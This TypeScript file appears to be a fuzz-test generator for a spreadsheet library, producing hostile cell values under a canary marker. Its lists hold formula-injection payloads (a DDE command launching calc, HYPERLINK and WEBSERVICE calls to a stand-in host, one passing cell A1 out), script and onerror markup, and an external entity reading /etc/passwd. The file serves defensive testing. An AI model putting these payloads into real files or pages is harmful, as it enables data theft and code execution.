/** Texts that a careless program takes for something else: a formula, markup, a number, a member of every object. */

import type { Random } from '../../samples/random';
import type { Scalar } from '../../host/workbook/model';
import { errorValue } from '../../host/workbook/values';

/** Stands in every text that could run: it must not come out in a formula, a name or an address. */
export const CANARY = 'zq9x';

const FORMULAS = [
  `=HYPERLINK("http://${CANARY}.example/?"&A1,"open")`,
  `=cmd|'/c calc ${CANARY}'!A0`,
  `+SUM(1,"${CANARY}")`,
  `-1+"${CANARY}"`,
  `@SUM("${CANARY}")`,
  `\t=1+"${CANARY}"`,
  `\r=1+"${CANARY}"`,
  `\n=WEBSERVICE("http://${CANARY}.example")`,
  `'=1+"${CANARY}"`,
  `{=TRANSPOSE("${CANARY}")}`,
  `=[Book9.xlsx]${CANARY}!A1`,
  `"${CANARY}";=1+1`,
];

const MARKUP = [
  `<script>globalThis.${CANARY}=1</script>`,
  `<img src=x onerror="globalThis.${CANARY}=1">`,
  `</t></is></c></row></sheetData><f>${CANARY}</f>`,
  `]]><f>${CANARY}</f>`,
  `&${CANARY};&lt;b&gt;&#0;&#x1F600;`,
  `<!ENTITY ${CANARY} SYSTEM "file:///etc/passwd">`,
  `javascript:${CANARY}()`,
  `_x003D_1+${CANARY}_x000D_`,
  `\${${CANARY}} {{${CANARY}}} %s %n $& $1 $\``,
];

const CHARACTERS = [
  '\u0000',
  'a\u0000b',
  '\u0001\u0008\u000b\u001f',
  '\u202Egnp.exe',
  '\u2066\u2069\u200F\u200E\u061C',
  '\uD800',
  'x\uDC00y',
  '\uFFFE\uFFFF',
  '\uFEFFAcme',
  'Z\u0341\u0323a\u0300\u0301\u0302\u0303\u0304',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
  '\u00A0\u2007\u3000',
  '\u2028\u2029\u0085',
  'ﷺ﷽'.repeat(40),
];

const MEMBERS = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'prototype',
  '__defineGetter__',
  'length',
  'then',
];

const WORDS = [
  'null',
  'NaN',
  'Infinity',
  'TRUE',
  '#N/A',
  '#REF!',
  '[object Object]',
  '0x1F',
  '1e308',
  '-0',
  '1e-400',
  '٣٤٥',
  'Ⅻ',
  '½',
];

const NUMBERS = [
  ...[
    '1.234,56',
    '1,234.56',
    '1.234',
    '(40.00)',
    '1.000,00-',
    '12 %',
    'TEUR 5',
    '$',
    '--5',
    '1,2,3',
    '1..2',
    '99999999999999999',
  ],
  ...['0.005', '1e5', '9007199254740993', '-0.01', '１２３', '1\u00A0234,5', "1'234.5"],
];

const DATES = [
  '31/31/2026',
  '2026-13-01',
  '0000-00-00',
  '29.02.2027',
  '9999-12-31',
  '1899-12-31',
  '03/04/05',
  '2026-03-05T25:61Z',
  'soon',
];

/** As long as a cell holds, also in what makes slow patterns slow. */
const LONG = ['a', ' ', '1', ',', '.', '-', 'a ', '1,', 'ab-', '(', 'İ', '\uD83D\uDE00', '="&'];
const LONGEST = 32_767;

export function hostileText(random: Random): string {
  if (random.chance(0.04)) {
    const unit = random.pick(LONG);
    const text = unit.repeat(Math.ceil(LONGEST / unit.length)).slice(0, random.pick([300, 5_000, LONGEST - 1, LONGEST]));
    return random.chance(0.5) ? `${text.slice(1)}!` : text;
  }
  const text = random.pick(random.pick([FORMULAS, MARKUP, CHARACTERS, MEMBERS, WORDS, NUMBERS, DATES]));
  return random.chance(0.15) ? `${text} ${random.pick(random.pick([FORMULAS, MARKUP, CHARACTERS, MEMBERS]))}` : text;
}

const ODD_NUMBERS = [
  ...[0, -0, -1, 0.1 + 0.2, 1e15, 2 ** 53, -(2 ** 53), 1e21, 1e308, -1e308, 5e-324, 0.005, 1234.565, 4e12],
  ...[60, 61, -1, 2_958_465, 2_958_466, 1e9, 46_000.999_999, 0.5],
];

/** Whatever a cell can hold. */
export function hostileValue(random: Random): Scalar {
  const die = random.next();
  if (die < 0.6) return hostileText(random);
  if (die < 0.8) return random.pick(ODD_NUMBERS);
  if (die < 0.88) return errorValue(random.pick(['#N/A', '#REF!', '#VALUE!', '#DIV/0!', '#NAME?', '#NUM!', '#NULL!']));
  if (die < 0.94) return random.chance(0.5);
  return random.pick(['', ' ', null]);
}

export const memberName = (random: Random): string => random.pick(MEMBERS);
